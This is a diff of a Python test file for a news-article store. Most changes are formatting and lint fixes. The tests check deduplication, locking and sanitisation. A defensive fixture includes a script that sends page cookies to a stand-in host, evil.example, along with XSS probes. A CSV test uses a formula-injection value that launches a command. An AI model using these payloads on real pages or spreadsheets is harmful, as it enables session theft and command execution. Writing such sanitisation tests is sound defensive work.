@@ -153,12 +153,13 @@ def test_store_add_lists_and_tables(store):
 
 def test_store_dedupes_by_content(full_store):
     v = full_store.version()
-    report = full_store.add_articles([art(TEXTS[0] + "\r\n", "copy.txt"), art(TEXTS[2], "three.txt"), art(TEXTS[2], "again.txt")])
+    report = full_store.add_articles([art(TEXTS[0] + "\r\n", "copy.txt"), art(TEXTS[2], "three.txt"),
+                                      art(TEXTS[2], "again.txt")])
     id0, id2 = text_hash(TEXTS[0])[:16], text_hash(TEXTS[2])[:16]
     assert report.duplicates == [("copy.txt", id0), ("again.txt", id2)]
     assert [a[0] for a in report.added] == [id2]
     assert len(full_store.list()) == 3
-    assert CALLS == [[id2]]  # only the new article was analysed
+    assert CALLS == [[id2]]  # noqa: SIM300 (a call log, not a constant) only the new article was analysed
     assert full_store.version() != v
 
 
@@ -179,7 +180,8 @@ def test_store_pipeline_failure_refuses_only_that_article(full_store):
 
 
 def test_store_report_frame():
-    report = AddReport(added=[("a" * 16, "x.txt", "X")], duplicates=[("y.txt", "b" * 16)], refused=[("z.bin", "binary")])
+    report = AddReport(added=[("a" * 16, "x.txt", "X")], duplicates=[("y.txt", "b" * 16)],
+                       refused=[("z.bin", "binary")])
     frame = report.to_frame()
     assert frame.to_dict("records") == [
         {"file": "x.txt", "outcome": "added", "article_id": "a" * 16, "detail": "X"},
@@ -249,7 +251,7 @@ def test_store_pipeline_version_change_marks_tables_stale_and_rebuild_reprocesse
 def test_store_version_change_on_add_reprocesses_old_articles(full_store):
     newer = Store(full_store.path, analyse=fake_analyse, aggregate=fake_aggregate, model="other-model-1.0")
     newer.add_articles([art(TEXTS[2], "three.txt")])
-    assert sorted(sum(CALLS, [])) == sorted(newer.ids())
+    assert sorted(i for call in CALLS for i in call) == sorted(newer.ids())
     assert newer.manifest()["model"] == "other-model-1.0"
 
 
@@ -361,7 +363,8 @@ import test_store
 from core.corpus.store import Store
 s = Store({path!r}, analyse=test_store.fake_analyse, aggregate=test_store.fake_aggregate)
 for i in range({n}):
-    s.add_articles([test_store.art("worker {tag} article " + str(i) + " visited Pyongyang", "w{tag}_" + str(i) + ".txt")])
+    s.add_articles([test_store.art("worker {tag} article " + str(i) + " visited Pyongyang",
+                                   "w{tag}_" + str(i) + ".txt")])
 print(len(s.list()))
 """
 
@@ -369,12 +372,13 @@ print(len(s.list()))
 def test_store_two_processes_adding_at_once_keep_everything(full_store):
     env = {**os.environ, "FAKE_ANALYSE_SLEEP": "0.05", "PYTHONPATH": str(ROOT)}
     procs = [
-        subprocess.Popen([sys.executable, "-c", WORKER.format(tests=str(ROOT / "tests"), path=str(full_store.path), n=4, tag=tag)],
-                         env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        subprocess.Popen(
+            [sys.executable, "-c", WORKER.format(tests=str(ROOT / "tests"), path=str(full_store.path), n=4, tag=tag)],
+            env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
         for tag in ("a", "b")
     ]
     for p in procs:
-        out, err = p.communicate(timeout=60)
+        _, err = p.communicate(timeout=60)
         assert p.returncode == 0, err
     files = set(full_store.list()["file"])
     assert files == {"one.txt", "two.txt"} | {f"w{t}_{i}.txt" for t in "ab" for i in range(4)}
@@ -387,9 +391,8 @@ def test_store_busy_lock_is_a_clear_error(full_store):
 
     other = FileLock(str(full_store.path / ".lock"))
     busy = Store(full_store.path, analyse=fake_analyse, aggregate=fake_aggregate, lock_timeout=0.2)
-    with other:
-        with pytest.raises(StoreError, match="busy"):
-            busy.remove(busy.ids())
+    with other, pytest.raises(StoreError, match="busy"):
+        busy.remove(busy.ids())
     assert len(busy.list()) == 2
 
 
@@ -398,7 +401,8 @@ def test_store_busy_lock_is_a_clear_error(full_store):
 # (Markup inside <title> is literal text by the HTML spec, so the hostile parts are in the body.)
 SCRIPT_HTML = (b"<html><head><title>Talks in Pyongyang</title>"
                b"<script>document.location='http://evil.example/?c='+document.cookie</script></head>"
-               b"<body onload=\"steal()\"><h1>Talks <script>alert(1)</script>in Pyongyang</h1><p>Sergei Shoigu met Kim Jong Un in Pyongyang on Friday.</p>"
+               b"<body onload=\"steal()\"><h1>Talks <script>alert(1)</script>in Pyongyang</h1>"
+               b"<p>Sergei Shoigu met Kim Jong Un in Pyongyang on Friday.</p>"
                b"<p><a href=\"javascript:alert(2)\" onclick=\"alert(3)\">The talks</a> covered the treaty.</p>"
                b"<iframe src=\"http://evil.example\"></iframe><style>p{}</style></body></html>")
 HOSTILE = [
@@ -440,14 +444,18 @@ def test_store_hostile_html_keeps_no_markup(hostile_store):
     add_bytes(hostile_store, SCRIPT_HTML, "script.html")
     row = hostile_store.tables()["articles"].set_index("file").loc["script.html"]
     assert "Sergei Shoigu met Kim Jong Un in Pyongyang" in row["text"]
-    for markup in ("<script", "document.cookie", "steal()", "onload", "onclick", "javascript:", "<iframe", "evil.example", "<"):
+    for markup in ("<script", "document.cookie", "steal()", "onload", "onclick", "javascript:", "<iframe",
+                   "evil.example", "<"):
         assert markup not in row["text"] and markup not in row["title"]
 
 
 @pytest.mark.parametrize("name, data, readable", [
     ("latin1.txt", "Kim Jong Un a rencontré Poutine à Vladivostok, a annoncé l'agence.".encode("latin-1"), "rencontré"),
-    ("cp1252.txt", "Putin\u2019s visit to Pyongyang \u2013 the first since 2000 \u2013 ended on Thursday.".encode("cp1252"), "Putin\u2019s visit"),
-    ("utf16.txt", "Kim Jong Un visited the Vostochny cosmodrome in September.".encode("utf-16"), "Vostochny cosmodrome"),
+    ("cp1252.txt",
+     "Putin\u2019s visit to Pyongyang \u2013 the first since 2000 \u2013 ended on Thursday.".encode("cp1252"),
+     "Putin\u2019s visit"),
+    ("utf16.txt", "Kim Jong Un visited the Vostochny cosmodrome in September.".encode("utf-16"),
+     "Vostochny cosmodrome"),
 ])
 def test_store_wrong_encoding_is_decoded_or_refused(hostile_store, name, data, readable):
     before = snapshot(hostile_store)
@@ -488,7 +496,8 @@ def test_store_export_neutralises_formulas(hostile_store, tmp_path):
     for path in paths:
         with open(path, newline="", encoding="utf-8") as fh:
             cells += [cell for row in csv.reader(fh) for cell in row]
-    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
+                 or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]
     assert dangerous == []
     assert "'=cmd|' /C calc'!A0" in "\n".join(cells)
 
@@ -553,7 +562,7 @@ def three_store(full_store):
 
 def test_store_remove_moves_to_trash_with_who_and_when(three_store, monkeypatch):
     monkeypatch.setenv("NEWSDASH_USER", "alice")
-    id0, id1, id2 = three_store.ids()
+    id0, id1, _ = three_store.ids()
     assert three_store.remove([id1]) == [id1]
     trash = three_store.trash()
     assert list(trash["article_id"]) == [id1] and list(trash["removed_by"]) == ["alice"]
@@ -597,7 +606,7 @@ def test_store_restore_after_a_pipeline_change_reanalyses(three_store):
     three_store.remove([gone])
     newer = Store(three_store.path, analyse=fake_analyse, aggregate=fake_aggregate, pipeline_version="99.0")
     assert newer.restore([gone]) == [gone]
-    assert gone in sum(CALLS, [])
+    assert any(gone in call for call in CALLS)
     assert sorted(newer.tables()["events"]["article_id"]) == sorted(three_store.ids())
     assert newer.manifest()["pipeline_version"] == "99.0" and not newer.stale()
 
@@ -627,7 +636,7 @@ def test_store_article_added_again_leaves_the_trash(three_store):
 
 
 def test_store_missing_raw_file_is_reported_and_does_not_crash_writes(three_store):
-    id0, id1, id2 = three_store.ids()
+    id0, _, id2 = three_store.ids()
     (three_store.path / "raw" / f"{id0}.json").unlink()
     assert [m[0] for m in three_store.missing_raw()] == [id0]
     assert "missing" in three_store.missing_raw()[0][1]
